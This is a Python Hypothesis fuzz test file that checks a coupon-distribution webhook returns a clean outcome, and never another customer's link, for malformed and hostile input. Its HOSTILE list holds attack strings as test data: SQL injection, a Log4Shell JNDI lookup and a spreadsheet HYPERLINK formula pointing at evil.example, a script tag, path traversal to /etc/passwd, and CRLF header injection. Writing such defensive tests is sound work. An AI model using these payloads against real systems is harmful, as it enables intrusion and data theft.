"""Hostile names and ids at the webhook: always an outcome, never a 5xx, never another customer."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from couponflow.domain import customer_ids
from couponflow.web.flow.request import DistributeRequest
from tests.support.api import Api
from tests.unit.payloads.shapes import SHAPES

HOSTILE = [
    "Robert'); DROP TABLE coupons;--",
    '=HYPERLINK("https://evil.example")',
    "<script>alert(1)</script>",
    "{{redeem_url}}",
    "{{customer_id}}",
    "${jndi:ldap://evil.example/a}",
    "HOLDER#x#y",
    "ORG#acme",
    "../../etc/passwd",
    "a\u0000b",
    "\u202egpj.exe",
    "\ud800",
    "﷽" * 50,
    "e" + "\u0301" * 150,
    "👩‍👩‍👧‍👦" * 20,
    "\r\nSet-Cookie: a=b",
    "%00%0d%0a",
    "null ",
    "-1",
    "1e400",
    " ",
    "x" * 200,
    "x" * 201,
]
text = st.text(max_size=210) | st.sampled_from(HOSTILE)
anything = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | text,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(text, inner, max_size=3),
    max_leaves=6,
)
NAMES = [*DistributeRequest.__dataclass_fields__, "organisation_id"]
FUZZ = settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)


def is_unicode(value: object) -> bool:
    try:
        return bool(json.dumps(value, ensure_ascii=False).encode())
    except UnicodeEncodeError:
        return False


@pytest.fixture
def coupon(api: Api) -> dict[str, Any]:
    return api.coupon()


@FUZZ
@given(fields=st.dictionaries(st.sampled_from(NAMES), anything, max_size=8))
def test_any_http_request_gets_an_outcome(api: Api, coupon: dict[str, Any], fields: dict[str, Any]):
    body = json.dumps({"coupon_id": coupon["coupon_id"]} | fields)
    known = {
        "authorization": f"Bearer {api.keys['distribute']}",
        "content-type": "application/json",
    }

    answer = api.client.post("/v1/flow/distribute", content=body, headers=known)

    assert answer.status_code in (200, 400)
    outcome = answer.json()
    assert (answer.status_code == 400) <= (outcome["outcome"] == "error")
    assert all(isinstance(value, str) for name, value in outcome.items() if name != "coupon")


@FUZZ
@given(event=st.dictionaries(st.sampled_from([*NAMES, "customers"]), anything, max_size=8))
def test_any_direct_invocation_gets_an_outcome(
    api: Api, coupon: dict[str, Any], event: dict[str, Any]
):
    handler = api.gateway.function("DistributeFunction").handler

    answer = handler(
        {
            "organisation_id": api.organisation_id,
            "coupon_id": coupon["coupon_id"],
            "customer_id": "ann",
        }
        | event,
        None,
    )

    assert all(each["outcome"] for each in answer.get("results", [answer]))
    assert is_unicode(answer)


@FUZZ
@given(
    fields=st.fixed_dictionaries({"customer_name": text, "message": text, "button_title": text}),
    format=st.sampled_from(list(SHAPES)),
)
def test_any_texts_give_a_valid_payload(
    api: Api, coupon: dict[str, Any], fields: dict[str, str], format: str
):
    body = {
        "coupon_id": coupon["coupon_id"],
        "customer_id": "ann",
        "image_url": "https://example.com/a.png",
        "format": format,
    }
    known = {
        "authorization": f"Bearer {api.keys['distribute']}",
        "content-type": "application/json",
    }

    answer = api.client.post(
        "/v1/flow/distribute", content=json.dumps(body | fields), headers=known
    )

    if answer.status_code == 200:
        SHAPES[format].validate_python(json.loads(answer.json()["payload"]))


@FUZZ
@given(ids=st.lists(text.filter(is_unicode), min_size=2, max_size=2))
def test_two_ids_share_a_link_only_if_canonically_equal(
    api: Api, coupon: dict[str, Any], ids: list[str]
):
    answers = [
        api.call(
            "POST",
            "/v1/flow/distribute",
            {"coupon_id": coupon["coupon_id"], "customer_id": each},
            "distribute",
        )
        for each in ids
    ]

    links = [answer.json()["redeem_url"] for answer in answers]
    if all(links):
        assert (links[0] == links[1]) == (
            customer_ids.canonical(ids[0]) == customer_ids.canonical(ids[1])
        )
